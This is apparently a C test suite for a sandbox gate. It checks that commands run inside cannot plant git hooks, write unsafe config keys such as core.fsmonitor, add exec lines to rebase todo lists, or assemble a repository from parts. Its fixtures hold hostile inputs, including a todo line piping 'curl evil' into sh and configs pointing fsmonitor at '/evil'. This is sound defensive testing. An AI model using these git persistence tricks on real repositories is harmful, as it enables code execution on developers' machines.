/* needs: linux */
/* tests/c/test_gate_git.c — git's layout rules, in a workdir the policy lets the command write: hooks,
 * config replaced only through config.lock with safe keys, sequencer todo lists without exec lines,
 * and no repository assembled from parts, in any order, by any syscall. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "gate_harness.h"

#include <strings.h>

static const char *const CONFIG0 = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";

/* w/repo: a repository made on the host, with a hook of the user's and the config above. */
static void host_repo(gh_env *e) {
  gh_sh("git init -q '%s/repo' && printf '#!/bin/sh\\necho user hook\\n' > '%s/repo/.git/hooks/pre-commit' && "
        "chmod 755 '%s/repo/.git/hooks/pre-commit'",
        e->w, e->w, e->w);
  gh_write(gh_path(e, "w/repo/.git/config"), CONFIG0);
}

static void do_hooks(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(gh_path(e, "w/repo/.git")) != 0) gh_check(0, "chdir");
  gh_check(gh_put("hooks/post-checkout", "#!/bin/sh\nevil\n") == -EPERM, "a new hook");
  gh_check(gh_put("hooks/Post-Checkout", "evil") == -EPERM, "a new hook, in other case");
  gh_check(gh_put("hooks/mine.sample", "#!/bin/sh\n") == 0, "a sample may be added");
  gh_check(gh_err(rename("hooks/mine.sample", "hooks/post-merge")) == -EPERM, "renamed to a hook name");
  gh_check(gh_err(link("hooks/mine.sample", "hooks/pre-push")) == -EPERM, "linked to a hook name");
  gh_check(gh_err(symlink("/bin/true", "hooks/pre-rebase")) == -EPERM, "a symlink as a hook");
  gh_check(gh_err(mkdir("hooks/pre-applypatch", 0755)) == -EPERM, "a directory as a hook");
  gh_check(gh_err(mknod("hooks/commit-msg", S_IFREG | 0755, 0)) == -EPERM, "mknod a hook");
  gh_check(gh_put("hooks/pre-commit", "evil") == -EPERM, "the user's hook may not be written");
  gh_check(gh_err(truncate("hooks/pre-commit", 0)) == -EPERM, "nor truncated");
  gh_check(gh_err(chmod("hooks/pre-commit", 0777)) == -EPERM, "nor chmodded");
  gh_check(gh_err(unlink("hooks/pre-commit")) == -EPERM, "nor removed");
  gh_check(gh_err(rename("hooks/pre-commit", "x")) == -EPERM, "nor moved away");
  gh_check(gh_err(rename("hooks/mine.sample", "hooks/pre-commit")) == -EPERM, "nor replaced");
  gh_check(gh_err(link("hooks/pre-commit", "../hook-copy")) == -EPERM, "nor given a second name");
  gh_check(gh_err(rename("hooks", "hooks-away")) == -EPERM, "the hooks directory with a hook may not move away");
  gh_check(gh_err(unlink("hooks/mine.sample")) == 0, "a sample may be removed");
  /* a hooks directory made elsewhere and moved in, or a link to one */
  gh_check(gh_err(mkdir("../myhooks", 0755)) == 0 && gh_put("../myhooks/pre-commit", "evil") == 0, "hooks outside .git");
  /* git follows links in its own directory when it writes there: none may be made (git init's probe of
   * core.symlinks, a link to "testing", excepted) */
  gh_check(gh_err(symlink("../myhooks", "hooks2")) == -EPERM, "no link in a git directory");
  gh_check(gh_err(symlink("../../outside", "COMMIT_EDITMSG")) == -EPERM, "nor one git would write through");
  gh_check(gh_err(symlink("testing", "tXXXXXX")) == 0 && gh_err(unlink("tXXXXXX")) == 0, "git init's probe");
  gh_check(gh_put("notes", "x") == 0, "an unrelated name");
  gh_check(gh_err(rename("notes", "notes2")) == 0, "an unrelated rename");
  int fd = open("hooks/pre-commit", O_RDONLY);
  gh_check(fd >= 0, "reading a hook is not the gate's business");
  close(fd);
}

static void hooks_may_only_receive_samples_and_existing_hooks_stay_as_they_are(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  host_repo(&e);
  assert_int_equal(gh_run(&e, do_hooks, NULL), 0);
  assert_string_equal(gh_read(gh_path(&e, "w/repo/.git/hooks/pre-commit")), "#!/bin/sh\necho user hook\n");
  struct stat st;
  assert_int_equal(stat(gh_path(&e, "w/repo/.git/hooks/pre-commit"), &st), 0);
  assert_int_equal(st.st_mode & 07777, 0755);
  static const char *const absent[] = {"post-checkout", "Post-Checkout", "post-merge", "pre-push", "pre-rebase",
                                       "pre-applypatch", "commit-msg", "mine.sample", NULL};
  for (const char *const *n = absent; *n; n++) {
    char rel[256];
    snprintf(rel, sizeof rel, "w/repo/.git/hooks/%s", *n);
    assert_false(gh_exists(gh_path(&e, rel)));
  }
  assert_false(gh_exists(gh_path(&e, "w/repo/hook-copy")));
  assert_non_null(strstr(e.msgs, "(git layout rule: hooks)"));
  assert_non_null(strstr(e.msgs, "only *.sample files may be added"));
  gh_teardown(&e);
}

static void do_hooks_dir(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(gh_path(e, "w/repo/.git")) != 0) gh_check(0, "chdir");
  gh_check(gh_err(mkdir("../evil", 0755)) == 0 && gh_put("../evil/pre-commit", "evil") == 0, "hooks made outside");
  gh_check(gh_err(rename("../evil", "hooks")) == -EPERM, "moved in as hooks (hooks is empty here)");
  gh_check(gh_err(rmdir("hooks")) == 0, "an empty hooks directory may go");
  gh_check(gh_err(symlink("../evil", "hooks")) == -EPERM, "a symlink as hooks");
  gh_check(gh_err(rename("../evil", "hooks")) == -EPERM, "a directory with a hook moved in as hooks");
  gh_check(gh_err(mkdir("../samples", 0755)) == 0 && gh_put("../samples/a.sample", "x") == 0, "samples outside");
  gh_check(gh_err(rename("../samples", "hooks")) == 0, "a directory of samples may become hooks");
}

static void a_hooks_directory_cannot_be_replaced_by_a_link_or_a_directory_holding_hooks(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  gh_sh("git init -q '%s/repo' && rm -f '%s'/repo/.git/hooks/*", e.w, e.w);
  assert_int_equal(gh_run(&e, do_hooks_dir, NULL), 0);
  struct stat st;
  assert_int_equal(lstat(gh_path(&e, "w/repo/.git/hooks"), &st), 0);
  assert_true(S_ISDIR(st.st_mode));
  assert_false(gh_exists(gh_path(&e, "w/repo/.git/hooks/pre-commit")));
  assert_true(gh_exists(gh_path(&e, "w/repo/.git/hooks/a.sample")));
  gh_teardown(&e);
}

static void do_config(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(gh_path(e, "w/repo/.git")) != 0) gh_check(0, "chdir");
  gh_check(gh_put("config", "[core]\n\tfsmonitor = /evil\n") == -EPERM, "config may not be written in place");
  gh_check(gh_err(open("config", O_RDWR)) == -EPERM, "nor opened for writing");
  gh_check(gh_err(unlink("config")) == -EPERM, "nor removed");
  gh_check(gh_err(chmod("config", 0666)) == -EPERM, "nor chmodded");
  gh_check(gh_err(link("config", "../config-copy")) == -EPERM, "nor linked");
  gh_check(gh_err(rename("config", "config.old")) == -EPERM, "nor moved away");
  /* git's own way: config.lock renamed over it, a safe change */
  gh_check(gh_put("config.lock", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = "
                              "/x\n") == 0, "write the lock");
  gh_check(gh_err(rename("config.lock", "config")) == 0, "a safe change is accepted");
  gh_check(gh_put("config.lock", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = /evil\n") == 0,
           "an unsafe lock");
  gh_check(gh_err(rename("config.lock", "config")) == -EPERM, "an unsafe key is refused");
  gh_check(gh_put("other", "[core]\n\tbare = true\n") == 0 && gh_err(rename("other", "config")) == -EPERM,
           "only config.lock may replace config");
  gh_check(gh_put("config.lock", "[core\n") == 0 && gh_err(rename("config.lock", "config")) == -EPERM,
           "a config that does not parse is refused");
  /* the bytes checked are the bytes installed: writing the lock after the rename reaches nothing */
  int fd = open("config.lock", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  const char *safe = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n[remote \"origin\"]\n\turl = /x\n";
  gh_check(fd >= 0 && write(fd, safe, strlen(safe)) == (ssize_t)strlen(safe), "the lock, kept open");
  gh_check(gh_err(rename("config.lock", "config")) == 0, "renamed");
  gh_check(lseek(fd, 0, SEEK_SET) == 0 && write(fd, "[core]\n\tfsmonitor = /evil\n", 26) == 26, "written after");
  close(fd);
  gh_check(!gh_exists("config.lock"), "the lock is gone, as after a rename");
  /* config.worktree follows the same rule; a new one may hold safe keys only */
  gh_check(gh_put("config.worktree", "[core]\n\tworktree = /w\n") == -EPERM, "config.worktree written in place");
  gh_check(gh_put("config.worktree.lock", "[core]\n\tsparseCheckout = true\n\thooksPath = /x\n") == 0 &&
               gh_err(rename("config.worktree.lock", "config.worktree")) == -EPERM,
           "a new config.worktree with an unsafe key");
  gh_check(gh_put("config.worktree.lock", "[core]\n\tbare = false\n") == 0 &&
               gh_err(rename("config.worktree.lock", "config.worktree")) == 0,
           "a new config.worktree with a safe key");
  gh_check(gh_err(symlink("/tmp/x", "CONFIG")) != 0, "a link named config, in any case");
}

static void config_changes_only_through_its_lock_with_safe_keys_and_late_writes_reach_nothing(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  host_repo(&e);
  assert_int_equal(gh_run(&e, do_config, NULL), 0);
  const char *cfg = gh_read(gh_path(&e, "w/repo/.git/config"));
  assert_string_equal(cfg, "[core]\n\trepositoryformatversion = 0\n\tbare = true\n[remote \"origin\"]\n\turl = /x\n");
  assert_string_equal(gh_read(gh_path(&e, "w/repo/.git/config.worktree")), "[core]\n\tbare = false\n");
  assert_false(gh_exists(gh_path(&e, "w/repo/config-copy")));
  struct stat st;
  assert_int_equal(stat(gh_path(&e, "w/repo/.git/config"), &st), 0);
  assert_int_equal(st.st_mode & 07777, 0644);  /* the lock file's mode */
  assert_non_null(strstr(e.msgs, "(git layout rule: config)"));
  assert_non_null(strstr(e.msgs, "run git config outside the sandbox"));
  gh_teardown(&e);
}

static void do_unsafe_key(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(gh_path(e, "w/repo/.git")) != 0) gh_check(0, "chdir");
  gh_check(gh_put("config.lock", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = /evil\n") == 0 &&
               gh_err(rename("config.lock", "config")) == -EPERM,
           "an unsafe key");
}

static void a_refused_config_names_the_key_that_is_not_safe(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  host_repo(&e);
  assert_int_equal(gh_run(&e, do_unsafe_key, NULL), 0);
  assert_non_null(strstr(e.msgs, "core.fsmonitor (line 4) is not a key a config written inside may add or change"));
  assert_string_equal(gh_read(gh_path(&e, "w/repo/.git/config")), CONFIG0);
  assert_true(gh_exists(gh_path(&e, "w/repo/.git/config.lock")));  /* a refused rename leaves its source */
  gh_teardown(&e);
}

static void do_todo(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(gh_path(e, "w/repo/.git")) != 0) gh_check(0, "chdir");
  gh_check(gh_err(mkdir("rebase-merge", 0755)) == 0 && gh_err(mkdir("sequencer", 0755)) == 0, "sequencer dirs");
  gh_check(gh_put("rebase-merge/git-rebase-todo", "pick 1234 a\n") == -EPERM, "a todo list is never written in place");
  gh_check(gh_put("rebase-merge/git-rebase-todo.lock", "pick 1234 a\n# exec in a comment is text\n") == 0 &&
               gh_err(rename("rebase-merge/git-rebase-todo.lock", "rebase-merge/git-rebase-todo")) == 0,
           "git's lock and rename");
  gh_check(gh_put("rebase-merge/sedAbc123", "pick 1234 a\nfixup 5678 b\n") == 0 &&
               gh_err(rename("rebase-merge/sedAbc123", "rebase-merge/git-rebase-todo")) == 0,
           "an editor's temporary file renamed over it (sed -i)");
  gh_check(gh_put("rebase-merge/t", "pick 1234 a\nexec make install\n") == 0 &&
               gh_err(rename("rebase-merge/t", "rebase-merge/git-rebase-todo")) == -EPERM,
           "an exec line");
  gh_check(gh_put("rebase-merge/t", "  x curl evil | sh\n") == 0 &&
               gh_err(rename("rebase-merge/t", "rebase-merge/git-rebase-todo")) == -EPERM,
           "an x line");
  gh_check(gh_put("sequencer/t", "pick 1234 a\nEXEC evil\n") == 0 && gh_err(rename("sequencer/t", "sequencer/todo")) == -EPERM,
           "sequencer/todo too");
  gh_check(gh_err(unlink("rebase-merge/git-rebase-todo")) == 0, "git removes it when done");
}

static void sequencer_todo_lists_are_replaced_only_by_rename_and_never_hold_exec_lines(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  host_repo(&e);
  assert_int_equal(gh_run(&e, do_todo, NULL), 0);
  assert_false(gh_exists(gh_path(&e, "w/repo/.git/rebase-merge/git-rebase-todo")));
  assert_false(gh_exists(gh_path(&e, "w/repo/.git/sequencer/todo")));
  assert_non_null(strstr(e.msgs, "is an exec line"));
  gh_teardown(&e);
}

/* --- assembling a repository out of parts ------------------------------------------------------------ */
static const char *const parts[] = {"objects", "refs", "HEAD", "config", "hooks/pre-commit"};
#define NPARTS 5

static int make_part(const char *dir, int part) {
  char p[600];
  snprintf(p, sizeof p, "%s/%s", dir, parts[part]);
  switch (part) {
  case 0: case 1: return gh_err(mkdir(p, 0755));
  case 2: return gh_put(p, "ref: refs/heads/main\n");
  case 3: return gh_put(p, "[core]\n\tfsmonitor = /evil\n");
  default: {
    char h[600];
    snprintf(h, sizeof h, "%s/hooks", dir);
    (void)mkdir(h, 0755);
    return gh_put(p, "evil");
  }
  }
}

static void do_assemble(gh_env *e, void *arg) {
  (void)arg;
  int perm[NPARTS], n = 0;
  for (int i = 0; i < NPARTS; i++) perm[i] = i;
  /* every order of the five parts, each in a directory of its own (Heap's algorithm) */
  int c[NPARTS] = {0};
  for (int i = 0;;) {
    char dir[512];
    snprintf(dir, sizeof dir, "%s/asm%03d", e->w, n++);
    (void)mkdir(dir, 0755);
    for (int k = 0; k < NPARTS; k++) (void)make_part(dir, perm[k]);
    while (i < NPARTS && c[i] >= i) c[i++] = 0;
    if (i >= NPARTS) break;
    int j = i % 2 ? c[i] : 0, t = perm[j];
    perm[j] = perm[i], perm[i] = t;
    c[i]++, i = 0;
  }
  gh_check(n == 120, "120 orders (%d)", n);
}

static bool holds(const char *dir, const char *name) {
  char p[600];
  snprintf(p, sizeof p, "%s/%s", dir, name);
  return gh_exists(p);
}

static void a_repository_cannot_be_assembled_from_parts_in_any_order(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  assert_int_equal(gh_run(&e, do_assemble, NULL), 0);
  for (int n = 0; n < 120; n++) {
    char rel[64];
    snprintf(rel, sizeof rel, "w/asm%03d", n);
    const char *dir = gh_path(&e, rel);
    bool repo = holds(dir, "objects") && holds(dir, "refs");
    bool code = holds(dir, "config") || holds(dir, "hooks/pre-commit");
    if (repo && code) fail_msg("%s holds a repository with code in it", rel);
    assert_true(repo || code);  /* and each order did get somewhere */
  }
  gh_teardown(&e);
}

static void do_commondir(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(e->w) != 0) gh_check(0, "chdir");
  /* the target of a commondir: objects and refs and a config of its own, without HEAD */
  gh_check(gh_err(mkdir("common", 0755)) == 0 && gh_err(mkdir("common/objects", 0755)) == 0 &&
               gh_err(mkdir("common/refs", 0755)) == 0, "objects and refs");
  gh_check(gh_put("common/config", "[core]\n\tfsmonitor = /evil\n") == -EPERM, "then no config of its own");
  gh_check(gh_err(mkdir("common/hooks", 0755)) == 0 && gh_put("common/hooks/pre-commit", "evil") == -EPERM,
           "nor a hook");
  gh_check(gh_err(mkdir("wt", 0755)) == 0 && gh_put("wt/config.worktree", "[core]\n\tfsmonitor = /evil\n") == 0,
           "a config.worktree in a plain directory");
  gh_check(gh_put("wt/commondir", "../common\n") == -EPERM, "then no commondir beside it");
  gh_check(gh_err(mkdir("wt2", 0755)) == 0 && gh_put("wt2/commondir", "../common\n") == 0 && gh_put("wt2/HEAD", "x") == 0,
           "a linked worktree's pieces");
  gh_check(gh_put("wt2/config.worktree", "[core]\n\tfsmonitor = /evil\n") == -EPERM, "then no config.worktree");
  /* names made compare without case (on a case-insensitive file system they are the same file); what a
   * directory holds is the file system's to say */
  gh_check(gh_err(mkdir("CI", 0755)) == 0 && gh_put("CI/config", "[x]\n") == 0 && gh_err(mkdir("CI/OBJECTS", 0755)) == -EPERM,
           "a piece named in capitals beside a config");
  gh_check(gh_err(mkdir("CI2", 0755)) == 0 && gh_err(mkdir("CI2/objects", 0755)) == 0 && gh_err(mkdir("CI2/refs", 0755)) == 0 &&
               gh_put("CI2/CONFIG", "[x]\n") == -EPERM,
           "a config named in capitals beside objects and refs");
}

static void a_commondir_target_or_a_linked_worktree_cannot_be_assembled_either(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  assert_int_equal(gh_run(&e, do_commondir, NULL), 0);
  assert_false(gh_exists(gh_path(&e, "w/common/config")));
  assert_false(gh_exists(gh_path(&e, "w/common/hooks/pre-commit")));
  assert_false(gh_exists(gh_path(&e, "w/wt/commondir")));
  assert_false(gh_exists(gh_path(&e, "w/wt2/config.worktree")));
  assert_false(gh_exists(gh_path(&e, "w/CI/OBJECTS")));
  assert_false(gh_exists(gh_path(&e, "w/CI2/CONFIG")));
  assert_non_null(strstr(e.msgs, "(git layout rule: no repository from parts)"));
  gh_teardown(&e);
}

static void do_rename_onto_dotgit(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(e->w) != 0) gh_check(0, "chdir");
  gh_check(gh_err(mkdir("evil", 0755)) == 0 && gh_put("evil/config", "[core]\n\tfsmonitor = /evil\n") == 0,
           "a config in a plain directory");
  gh_check(gh_err(mkdir("proj", 0755)) == 0 && gh_err(rename("evil", "proj/.git")) == -EPERM, "renamed to .git");
  gh_check(gh_err(mkdir("proj/.git", 0755)) == 0 && gh_err(rename("evil", "proj/.git")) == -EPERM, "renamed onto an empty .git");
  gh_check(gh_err(rename("evil", "repo/.git/modules")) == -EPERM, "moved into a git directory");
  gh_check(gh_err(rmdir("proj/.git")) == 0, "rmdir");
  gh_check(gh_err(mkdir("deep", 0755)) == 0 && gh_err(mkdir("deep/a", 0755)) == 0 && gh_err(mkdir("deep/a/hooks", 0755)) == 0 &&
               gh_put("deep/a/hooks/post-checkout", "evil") == 0,
           "a hook deep in a plain tree");
  gh_check(gh_err(rename("deep", "proj/.GIT")) == -EPERM, "renamed to .git in another case");
  gh_check(gh_err(mkdir("good", 0755)) == 0 && gh_put("good/config", "[core]\n\tbare = false\n") == 0 &&
               gh_err(mkdir("good/hooks", 0755)) == 0 && gh_put("good/hooks/x.sample", "") == 0,
           "a tree git's rules allow");
  gh_check(gh_err(rename("good", "proj/.git")) == 0, "may become a .git");
}

static void a_directory_renamed_onto_dot_git_must_hold_only_what_git_rules_allow(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  host_repo(&e);
  assert_int_equal(gh_run(&e, do_rename_onto_dotgit, NULL), 0);
  assert_true(gh_exists(gh_path(&e, "w/evil/config")));
  assert_false(gh_exists(gh_path(&e, "w/repo/.git/modules/config")));
  assert_true(gh_exists(gh_path(&e, "w/deep/a/hooks/post-checkout")));
  assert_string_equal(gh_read(gh_path(&e, "w/proj/.git/config")), "[core]\n\tbare = false\n");
  gh_teardown(&e);
}

static void do_bare(gh_env *e, void *arg) {
  (void)arg;
  if (chdir(gh_path(e, "w/bare.git")) != 0) gh_check(0, "chdir");
  gh_check(gh_put("hooks/post-receive", "evil") == -EPERM, "a bare repository's hooks");
  gh_check(gh_put("config", "[core]\n\tfsmonitor=/evil\n") == -EPERM, "and its config");
  gh_check(gh_put("config.lock", "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = true\n") == 0 &&
               gh_err(rename("config.lock", "config")) == 0,
           "its config through the lock");
}

static void a_bare_repository_is_a_git_directory_by_what_it_holds(void **state) {
  (void)state;
  gh_env e;
  gh_setup(&e);
  gh_sh("git init -q --bare '%s/bare.git'", e.w);
  assert_int_equal(gh_run(&e, do_bare, NULL), 0);
  assert_false(gh_exists(gh_path(&e, "w/bare.git/hooks/post-receive")));
  assert_null(strstr(gh_read(gh_path(&e, "w/bare.git/config")), "evil"));
  gh_teardown(&e);
}

static int group(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(hooks_may_only_receive_samples_and_existing_hooks_stay_as_they_are),
      cmocka_unit_test(a_hooks_directory_cannot_be_replaced_by_a_link_or_a_directory_holding_hooks),
      cmocka_unit_test(config_changes_only_through_its_lock_with_safe_keys_and_late_writes_reach_nothing),
      cmocka_unit_test(a_refused_config_names_the_key_that_is_not_safe),
      cmocka_unit_test(sequencer_todo_lists_are_replaced_only_by_rename_and_never_hold_exec_lines),
      cmocka_unit_test(a_repository_cannot_be_assembled_from_parts_in_any_order),
      cmocka_unit_test(a_commondir_target_or_a_linked_worktree_cannot_be_assembled_either),
      cmocka_unit_test(a_directory_renamed_onto_dot_git_must_hold_only_what_git_rules_allow),
      cmocka_unit_test(a_bare_repository_is_a_git_directory_by_what_it_holds),
  };
  return cmocka_run_group_tests_name(gh_user, tests, NULL, NULL);
}

int main(void) { return gh_main(group); }
